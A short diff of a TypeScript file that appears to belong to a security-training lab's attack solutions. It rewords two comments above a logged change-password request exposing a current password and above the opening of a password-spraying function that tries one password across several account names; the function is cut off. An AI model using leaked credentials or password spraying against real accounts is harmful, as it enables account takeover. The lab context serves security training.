@@ -1,10 +1,10 @@
 import type { Attack, Tools } from '#lab'
 
-/** The request as it stood in the log: it failed, so that the password is still good. */
+/** The request as in the log: it failed, so the password is still valid. */
 const LINE =
   '/rest/user/change-password?current=0Y8rMnww$*9VFYE%C2%A759-!Fg1L6t&6lB&new=sjss22%@%E2%82%AC55jaJasj!.k&repeat=sjss22%@%E2%82%AC55jaJasj!.k8'
 
-/** Tries a password at these accounts; true if the last of them opens. */
+/** Tries a password at these accounts. True if the last of them opens. */
 async function spray({ http, settings, expect }: Tools, names: string[], password: string): Promise<void> {
   let status = 0
   for (const name of names) {
